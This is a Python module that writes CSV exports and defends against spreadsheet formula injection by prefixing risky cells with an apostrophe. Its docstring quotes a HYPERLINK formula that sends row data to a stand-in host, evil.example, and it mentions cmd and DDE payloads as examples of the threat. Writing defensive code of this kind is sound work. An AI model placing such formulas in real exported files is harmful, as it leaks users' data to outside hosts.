"""The one CSV writer of the portal: UTF-8 with a byte-order mark (so Excel reads the
Chinese), CRLF line ends, and every cell inert when a person opens the file in Excel.

A cell that begins with '=', '+', '-', '@', a tab or a carriage return is taken by Excel
and LibreOffice as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"点击查看")` sends the
row away when clicked; `@SUM(…)`, `+cmd|…` and DDE payloads run). Such a cell is written
with a leading apostrophe, as OWASP recommends: the spreadsheet shows the text as typed,
and the apostrophe is visible in other readers, which is the price of safety.

One exception keeps the figures readable: a cell that is exactly a plain decimal number,
such as `-3` or `-12.50`, is written as it is. Excel reads it as that number and nothing
else; no formula can be spelled with digits, one leading minus and one decimal point.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# send_file adds "; charset=utf-8" to any text/ type: giving it here would say it twice.
CSV_MIMETYPE = "text/csv"

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def inert_cell(value: object) -> str:
    """The cell's text as Excel will show it and never evaluate."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """The rows (header included) as CSV bytes, every cell passed through inert_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows([inert_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")
